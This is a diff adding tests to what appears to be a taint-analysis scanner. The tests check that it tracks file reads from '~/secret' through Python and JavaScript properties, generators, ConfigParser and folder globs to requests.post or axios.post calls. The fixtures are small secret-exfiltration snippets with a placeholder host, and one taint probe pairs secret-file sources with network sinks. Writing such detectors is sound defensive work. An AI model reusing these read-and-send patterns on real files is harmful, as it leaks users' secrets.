@@ -65,3 +65,57 @@ it('marks what a tool is called with, however it is registered', async () => {
     ),
   ).toBe(1)
 })
+
+it.each([
+  [
+    'a property',
+    'class A:\n    base = "~"\n    @property\n    def f(self):\n        return self.base + "/secret"\nrequests.post("u", data=open(A().f).read())',
+  ],
+  [
+    'a generator',
+    'def each():\n    for n in ["secret"]:\n        yield "~/" + n\nfor f in each():\n    requests.post("u", data=open(f).read())',
+  ],
+  [
+    'a generator that hands on another',
+    'def one():\n    yield "~/secret"\ndef all():\n    yield from one()\nfor f in all():\n    requests.post("u", data=open(f).read())',
+  ],
+])('follows %s of Python', async (_, code) => {
+  expect(flows(await factsOf({ 'a.py': `import requests\n${code}\n` }))).toHaveLength(1)
+})
+
+it.each([
+  ['a getter', 'class A { get f() { return "~/secret" } }\naxios.post("u", fs.readFileSync(new A().f))'],
+  [
+    'a generator',
+    'function* each() { yield "~/secret" }\nfor (const f of each()) axios.post("u", fs.readFileSync(f))',
+  ],
+  [
+    'items that pass a test',
+    'const all = ["secret"].map((n) => "~/" + n).filter((f) => fs.existsSync(f)).map((f) => fs.readFileSync(f))\naxios.post("u", all)',
+  ],
+])('follows %s of JavaScript', async (_, code) => {
+  const head = 'const fs = require("fs"), axios = require("axios")\n'
+  expect(flows(await factsOf({ 'a.js': `${head}${code}\n` }))).toHaveLength(1)
+})
+
+it('what a method reads into its object is in the object', async () => {
+  const parser: TaintProbe = {
+    kind: 'taint',
+    id: 'parser',
+    pack: 'test',
+    tags: [],
+    language: '*',
+    sources: [{ pattern: 'configparser.ConfigParser.read(*secret*)', tag: 'file' }],
+    sinks: [{ pattern: 'requests.post', tag: 'net' }],
+    sanitizers: [],
+  }
+  const code =
+    'import configparser, requests\np = configparser.ConfigParser()\np.read("~/secret")\nrequests.post("u", json=dict(p["x"]))\n'
+  expect(flows(await factsOf({ 'a.py': code }, [parser]))).toHaveLength(1)
+})
+
+it('files found in a folder have its path', async () => {
+  const code =
+    'from pathlib import Path\nimport requests\nfor f in (Path.home() / "secret").rglob("*.txt"):\n    requests.post("u", data=open(f).read())\n'
+  expect(flows(await factsOf({ 'a.py': code }))).toHaveLength(1)
+})
